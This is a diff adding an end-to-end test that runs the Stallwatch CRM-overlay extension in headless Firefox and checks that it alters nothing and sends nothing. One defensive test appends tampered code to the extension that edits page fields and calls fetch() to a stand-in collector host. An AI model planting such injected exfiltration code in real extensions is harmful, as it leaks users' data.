@@ -1,0 +1,432 @@
+// The overlay in real headless Firefox ESR, on the real CRM URLs under the fixtures' strict CSP,
+// with the write-nothing guard on every page. Driven by geckodriver over plain W3C WebDriver
+// (webdriver.mjs); the fixture pages come from a local HTTPS server (server.mjs). How it works
+// and what it checks: docs/firefox.md.
+//
+// Skips (and says why) when firefox-esr or geckodriver is not installed, unless
+// STALLWATCH_REQUIRE_FIREFOX is set: then their absence fails. `bash scripts/setup-firefox.sh`
+// installs both.
+import { after, before, describe, test } from 'node:test';
+import assert from 'node:assert/strict';
+import { spawnSync } from 'node:child_process';
+import { appendFileSync, cpSync, existsSync, mkdtempSync, readFileSync, realpathSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { EXPECTED, ROOT } from '../e2e/harness.mjs';
+import { CRM_HOSTS, GUARD_PATH, startServers } from './server.mjs';
+import { Session, startGeckodriver, which } from './webdriver.mjs';
+
+const FIREFOX = process.env.FIREFOX || which('firefox-esr');
+const GECKODRIVER = process.env.GECKODRIVER || which('geckodriver');
+const REQUIRED = !!process.env.STALLWATCH_REQUIRE_FIREFOX;
+/** The unpacked extension under test (an override is for experiments only). */
+const EXTENSION_DIR = process.env.STALLWATCH_FIREFOX_EXTENSION || path.join(ROOT, 'dist', 'firefox');
+
+const missing = [!FIREFOX && 'firefox-esr', !GECKODRIVER && 'geckodriver'].filter(Boolean);
+const SKIP =
+  missing.length && !REQUIRED
+    ? `${missing.join(' and ')} not installed (run bash scripts/setup-firefox.sh; set STALLWATCH_REQUIRE_FIREFOX=1 to make this a failure)`
+    : false;
+if (SKIP) console.log(`Firefox end-to-end test skipped: ${SKIP}`);
+
+const OVERLAY_TIMEOUT = 15_000; // the overlay must have scored within this
+const NOT_A_DEAL_WAIT = 3_000; // how long a non-deal page is watched for an overlay
+
+/**
+ * Firefox preferences: the CRM hosts resolve to loopback; every other host goes to the
+ * recording proxy (which answers nothing); Firefox's own background traffic is off.
+ */
+function firefoxPrefs(proxyPort) {
+  return {
+    'network.dns.localDomains': CRM_HOSTS.join(','),
+    'network.proxy.type': 1,
+    'network.proxy.http': '127.0.0.1',
+    'network.proxy.http_port': proxyPort,
+    'network.proxy.ssl': '127.0.0.1',
+    'network.proxy.ssl_port': proxyPort,
+    'network.proxy.no_proxies_on': CRM_HOSTS.join(','),
+    // Console messages of content scripts and extension pages go to stdout (geckodriver's log).
+    'devtools.console.stdout.content': true,
+    // Remote settings: honoured only with MOZ_DISABLE_NONLOCAL_CONNECTIONS=1 (see below).
+    'services.settings.server': 'data:,#remote-settings-dummy/v1',
+    'app.normandy.enabled': false,
+    'messaging-system.rsexperimentloader.enabled': false,
+    'toolkit.telemetry.enabled': false,
+    'datareporting.policy.dataSubmissionEnabled': false,
+    'datareporting.healthreport.uploadEnabled': false,
+    'app.update.enabled': false,
+    'app.update.auto': false,
+    'extensions.update.enabled': false,
+    'extensions.getAddons.cache.enabled': false,
+    'extensions.systemAddon.update.enabled': false,
+    'network.captive-portal-service.enabled': false,
+    'network.connectivity-service.enabled': false,
+    'network.trr.mode': 5,
+    'network.http.speculative-parallel-limit': 0,
+    'network.dns.disablePrefetch': true,
+    'network.prefetch-next': false,
+    'dom.push.connection.enabled': false,
+    'browser.shell.checkDefaultBrowser': false,
+    'browser.startup.page': 0,
+    'browser.startup.homepage_override.mstone': 'ignore',
+    'startup.homepage_welcome_url': '',
+    'browser.region.network.url': '',
+    'browser.region.update.enabled': false,
+    'browser.safebrowsing.malware.enabled': false,
+    'browser.safebrowsing.phishing.enabled': false,
+    'browser.safebrowsing.downloads.enabled': false,
+    'browser.safebrowsing.blockedURIs.enabled': false,
+    'browser.safebrowsing.update.enabled': false,
+    'browser.safebrowsing.provider.mozilla.updateURL': '',
+    'media.gmp-manager.url': '',
+    'geo.provider.network.url': '',
+    'identity.fxaccounts.enabled': false,
+  };
+}
+
+const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
+
+/** Packs an unpacked extension directory into a zip and returns it as base64. */
+function zipBase64(dir, work) {
+  const out = path.join(work, `addon-${Date.now()}.zip`);
+  const r = spawnSync('zip', ['-qr', '-X', out, '.'], { cwd: dir, encoding: 'utf8', timeout: 30_000 });
+  if (r.status !== 0) throw new Error(`zip failed for ${dir}: ${r.error?.message || r.stderr}`);
+  return readFileSync(out).toString('base64');
+}
+
+// ---- the browser, shared by every test in this file --------------------------------------
+
+let servers = null;
+let driver = null;
+let session = null;
+let work = null;
+let addonId = null;
+let mark = { requests: 0, log: 0 }; // where the current page's window starts
+
+async function startFirefox() {
+  if (!process.env.STALLWATCH_FIREFOX_EXTENSION && !existsSync(path.join(EXTENSION_DIR, 'manifest.json'))) {
+    // Build output goes to stderr, so it cannot be mistaken for the test runner's own output.
+    const r = spawnSync('bash', [path.join(ROOT, 'scripts', 'build.sh')], {
+      cwd: ROOT,
+      stdio: ['ignore', 2, 2],
+      timeout: 15 * 60_000,
+    });
+    if (r.status !== 0) throw new Error(`bash scripts/build.sh failed (${r.error?.message || `exit ${r.status}`})`);
+  }
+  work = mkdtempSync(path.join(tmpdir(), 'stallwatch-firefox-'));
+  servers = await startServers();
+  driver = await startGeckodriver(GECKODRIVER, {
+    env: {
+      MOZ_HEADLESS: '1',
+      // Firefox refuses connections to anything but loopback, and (on release builds) honours
+      // the remote-settings override above only with this set: measured on ESR 153.
+      MOZ_DISABLE_NONLOCAL_CONNECTIONS: '1',
+    },
+  });
+  session = await Session.create(driver.base, {
+    alwaysMatch: {
+      browserName: 'firefox',
+      acceptInsecureCerts: true,
+      pageLoadStrategy: 'normal',
+      timeouts: { pageLoad: 30_000, script: 10_000, implicit: 0 },
+      'moz:firefoxOptions': {
+        binary: realpathSync(FIREFOX),
+        args: ['-headless'],
+        prefs: firefoxPrefs(servers.proxyPort),
+      },
+    },
+  });
+  startWindow(); // anything from here on (the install included) is the extension's to answer for
+  addonId = await session.installAddon(zipBase64(EXTENSION_DIR, work), { temporary: true });
+}
+
+async function stopFirefox() {
+  const problems = [];
+  for (const step of [
+    () => session?.delete(),
+    () => driver?.stop(),
+    () => servers?.close(),
+    () => work && rmSync(work, { recursive: true, force: true }),
+  ]) {
+    try {
+      await step();
+    } catch (e) {
+      problems.push(e.message);
+    }
+  }
+  session = driver = servers = work = null;
+  if (problems.length) console.error(`# Firefox teardown: ${problems.join('; ')}`);
+}
+
+function startWindow() {
+  mark = { requests: servers.requests.length, log: driver.log.length };
+}
+
+/** Opens `url` in the top-level browsing context. */
+async function open(url) {
+  await session.switchToTop();
+  await session.navigate(url);
+  assert.equal(await session.currentUrl(), url, 'the fixture page loaded at its real URL');
+}
+
+// ---- the write-nothing checks --------------------------------------------------------------
+
+async function guardReport() {
+  await session.switchToTop();
+  const r = await session.execute('return window.__stallwatchGuard ? window.__stallwatchGuard.report() : null');
+  assert.ok(r, `the guard script ${GUARD_PATH} ran in the page`);
+  return r;
+}
+
+/** Requests since the window started that are not the fixture document, the guard or a favicon. */
+function strayRequests(documentUrl) {
+  const doc = new URL(documentUrl);
+  let documents = 0;
+  const stray = [];
+  for (const r of servers.requests.slice(mark.requests)) {
+    if (r.via === 'https' && r.method === 'GET') {
+      const u = new URL(r.url);
+      if (u.origin === doc.origin && u.pathname === doc.pathname && u.search === doc.search && documents++ === 0) continue;
+      if (u.origin === doc.origin && (u.pathname === GUARD_PATH || u.pathname === '/favicon.ico')) continue;
+    }
+    stray.push(`${r.via === 'proxy' ? 'via proxy: ' : ''}${r.method} ${r.url}`);
+  }
+  return stray;
+}
+
+/**
+ * Errors Firefox printed since the window started: console.error from content scripts and
+ * extension pages, and uncaught JavaScript errors. Firefox's own internals (resource:// and
+ * chrome:// code) are not the extension's and are left out.
+ */
+function firefoxErrors() {
+  return driver.log
+    .slice(mark.log)
+    .filter((l) => /^(console\.error:|JavaScript error:)/.test(l))
+    .filter((l) => l.includes('moz-extension://') || !/(resource|chrome):\/\//.test(l));
+}
+
+/** Everything that breaks the write-nothing promise on the current page, as a list. */
+async function breaches(documentUrl) {
+  const r = await guardReport();
+  const out = [];
+  if (!r.started) out.push('guard: never started (no DOMContentLoaded?)');
+  if (r.overlayAtStart) out.push('guard: the overlay was already mounted when the guard started watching');
+  for (const m of r.mutations) out.push(`host page mutated: ${m}`);
+  for (const i of r.inputs) out.push(`host form control changed: ${i}`);
+  for (const e of r.errors) out.push(`page: ${e}`);
+  for (const q of strayRequests(documentUrl)) out.push(`request: ${q}`);
+  for (const e of firefoxErrors()) out.push(`Firefox: ${e}`);
+  return out;
+}
+
+async function assertUntouched(documentUrl) {
+  assert.deepEqual(await breaches(documentUrl), [], `the page was left untouched and nothing was sent (${documentUrl})`);
+}
+
+// ---- the overlay ---------------------------------------------------------------------------
+
+/**
+ * Waits until the overlay iframe inside <stallwatch-overlay>'s closed shadow root shows a
+ * score, and leaves the session switched into that frame. WebDriver reaches the closed root
+ * with Get Element Shadow Root (Firefox returns closed roots too) and enters the frame with
+ * Switch To Frame by element reference.
+ */
+async function enterOverlay() {
+  const deadline = Date.now() + OVERLAY_TIMEOUT;
+  let seen = 'no <stallwatch-overlay> element';
+  for (;;) {
+    await session.switchToTop();
+    const hosts = await session.findElements('css selector', 'stallwatch-overlay');
+    assert.ok(hosts.length <= 1, `one overlay container at most (found ${hosts.length})`);
+    if (hosts.length === 1) {
+      const shadow = await session.elementShadowRoot(hosts[0]);
+      const frames = await session.findElementsFromShadowRoot(shadow, 'css selector', 'iframe');
+      if (frames.length !== 1) {
+        seen = `${frames.length} iframes in the shadow root`;
+      } else {
+        const src = await session.elementAttribute(frames[0], 'src');
+        assert.match(src, /^moz-extension:\/\/[0-9a-f-]+\/overlay\.html#/, 'the overlay is our extension page');
+        await session.switchToFrame(frames[0]);
+        const state = await session.execute(
+          `const app = document.getElementById('app');
+           return {
+             url: location.href,
+             ready: document.readyState,
+             scored: !!document.querySelector('[data-testid="stall-score"]'),
+             app: app ? app.textContent.trim().slice(0, 300) : null,
+           };`,
+        );
+        if (state.scored) return src;
+        seen = `iframe ${src} loaded (${state.ready}) but shows no score; #app text: ${JSON.stringify(state.app)}`;
+      }
+    }
+    if (Date.now() > deadline) {
+      await session.switchToTop();
+      // Console lines from content scripts and extension pages (not Firefox's own internals).
+      const log = driver.log
+        .slice(mark.log)
+        .filter((l) => /^(console\.\w+:|JavaScript (error|warning):)/.test(l))
+        .filter((l) => l.includes('moz-extension://') || !/(resource|chrome):\/\//.test(l));
+      throw new assert.AssertionError({
+        message:
+          `no scored Stallwatch overlay within ${OVERLAY_TIMEOUT} ms: ${seen}.\n` +
+          `Extension console output since the page opened: ${log.length ? `\n${log.join('\n')}` : '(none)'}`,
+      });
+    }
+    await sleep(250);
+  }
+}
+
+/** What the overlay shows, read inside its frame. */
+function readOverlay() {
+  return session.execute(`
+    const text = (el) => (el ? el.textContent.trim() : null);
+    const fields = {};
+    for (const li of document.querySelectorAll('[data-testid="read-field"]')) {
+      fields[li.dataset.field] = text(li.querySelector('[data-testid="read-value"]'));
+    }
+    return {
+      score: text(document.querySelector('[data-testid="stall-score"]')),
+      reasons: [...document.querySelectorAll('[data-testid="stall-reason"]')].map((e) => e.dataset.code),
+      fields,
+    };`);
+}
+
+function assertScore(text) {
+  assert.match(text ?? '', /^\d{1,3}$/, `the score is an integer (got ${JSON.stringify(text)})`);
+  const n = Number(text);
+  assert.ok(n >= 0 && n <= 100, `the score is within 0–100 (got ${n})`);
+  return n;
+}
+
+/**
+ * Runs the overlay checks, then always returns to the top frame, so that the write-nothing
+ * checks run on every page even when the overlay failed; `rethrow()` reports the overlay's
+ * failure after them.
+ */
+async function attempt(checks) {
+  let error = null;
+  try {
+    await checks();
+  } catch (e) {
+    error = e;
+  } finally {
+    await session.switchToTop();
+  }
+  return {
+    rethrow() {
+      if (error) throw error;
+    },
+  };
+}
+
+// ---- the tests -----------------------------------------------------------------------------
+
+const SUITE = 'Stallwatch in Firefox ESR (headless, geckodriver)';
+// Skipped as one test (counted as skipped by the runner), never as a pass; required but
+// absent, one failing test that says what to install.
+if (SKIP) test(SUITE, { skip: SKIP }, () => {});
+else if (missing.length) {
+  test(SUITE, () => {
+    assert.fail(`STALLWATCH_REQUIRE_FIREFOX is set but ${missing.join(' and ')} is not installed: run bash scripts/setup-firefox.sh`);
+  });
+} else describe(SUITE, () => {
+  before(startFirefox, { timeout: 17 * 60_000 }); // a build, if dist/firefox is missing
+  after(stopFirefox, { timeout: 30_000 });
+
+  test('Salesforce opportunity: the overlay scores the follow-up trap under the strict CSP', { timeout: 60_000 }, async () => {
+    const fixture = 'salesforce/opportunity.html';
+    const { url } = EXPECTED[fixture];
+    await open(url);
+    const overlay = await attempt(async () => {
+      await enterOverlay();
+      const shown = await readOverlay();
+      assertScore(shown.score);
+      for (const code of ['follow_up_trap', 'silence']) {
+        assert.ok(shown.reasons.includes(code), `reason ${code} shown (got ${shown.reasons})`);
+      }
+      assert.equal(shown.fields.name, EXPECTED[fixture].fields.name, 'the deal name it read');
+    });
+    await assertUntouched(url); // its window opened before the add-on was installed
+    overlay.rethrow();
+  });
+
+  test('HubSpot deal: the overlay scores the deal and reads its name', { timeout: 60_000 }, async () => {
+    const fixture = 'hubspot/deal.html';
+    const { url } = EXPECTED[fixture];
+    startWindow();
+    await open(url);
+    const overlay = await attempt(async () => {
+      await enterOverlay();
+      const shown = await readOverlay();
+      assertScore(shown.score);
+      assert.equal(shown.fields.name, EXPECTED[fixture].fields.name, 'the deal name it read');
+    });
+    await assertUntouched(url);
+    overlay.rethrow();
+  });
+
+  test('Salesforce contact (not a deal): no overlay at all', { timeout: 30_000 }, async () => {
+    const fixture = 'salesforce/contact.html';
+    const { url } = EXPECTED[fixture];
+    assert.equal(EXPECTED[fixture].must_not_show, true);
+    startWindow();
+    await open(url);
+    await sleep(NOT_A_DEAL_WAIT);
+    assert.deepEqual(await session.findElements('css selector', 'stallwatch-overlay'), [], 'no <stallwatch-overlay>');
+    await assertUntouched(url);
+  });
+
+  // The guard must be able to fail, or every check above passes vacuously: a tampered copy of
+  // the extension breaks each promise once, and each breach must be reported.
+  test('the guard catches a tampered extension', { timeout: 60_000 }, async () => {
+    const dir = mkdtempSync(path.join(work, 'tampered-'));
+    cpSync(EXTENSION_DIR, dir, { recursive: true });
+    appendFileSync(
+      path.join(dir, 'content.js'),
+      `\n;setTimeout(() => {
+        document.body.setAttribute('data-tampered', '1');
+        const box = document.querySelector('textarea, input');
+        if (box) box.value += ' (edited)';
+        fetch('https://acme.lightning.force.com/collect?x=1').catch(() => {});
+        fetch('https://collector.stallwatch.invalid/collect?x=2').catch(() => {}); // page CSP blocks this
+        console.error('tampered content script error');
+      }, 200);\n`,
+    );
+    // The overlay is an extension page: the page's CSP does not bind it, so this one leaves.
+    appendFileSync(
+      path.join(dir, 'overlay.js'),
+      `\nfetch('https://collector.stallwatch.invalid/collect?x=3').catch(() => {});
+      setTimeout(() => { throw new Error('tampered overlay error'); }, 0);\n`,
+    );
+    await session.cmd('POST', '/moz/addon/uninstall', { id: addonId });
+    addonId = await session.installAddon(zipBase64(dir, work), { temporary: true });
+
+    const { url } = EXPECTED['salesforce/opportunity.html'];
+    startWindow();
+    await open(url);
+    let found = [];
+    const deadline = Date.now() + 10_000;
+    const want = [
+      /^host page mutated: attribute data-tampered on body/,
+      /^host form control changed: .*\(edited\)/,
+      /^request: GET https:\/\/acme\.lightning\.force\.com\/collect\?x=1$/,
+      /^page: CSP violation: connect-src blocked https:\/\/collector\.stallwatch\.invalid\/collect\?x=2$/,
+      /^request: via proxy: CONNECT collector\.stallwatch\.invalid:443$/,
+      /^Firefox: console\.error: .*tampered content script error/,
+      /^Firefox: JavaScript error: moz-extension:\/\/[^ ]*\/overlay\.js, .*tampered overlay error/,
+    ];
+    while (Date.now() < deadline) {
+      found = await breaches(url);
+      if (want.every((w) => found.some((f) => w.test(f)))) break;
+      await sleep(250);
+    }
+    for (const w of want) assert.ok(found.some((f) => w.test(f)), `breach ${w} reported (got ${JSON.stringify(found, null, 1)})`);
+  });
+});
+
+// Whatever happens above, Firefox and geckodriver must not outlive the test process.
+process.once('exit', () => {
+  if (driver) driver.stop();
+});
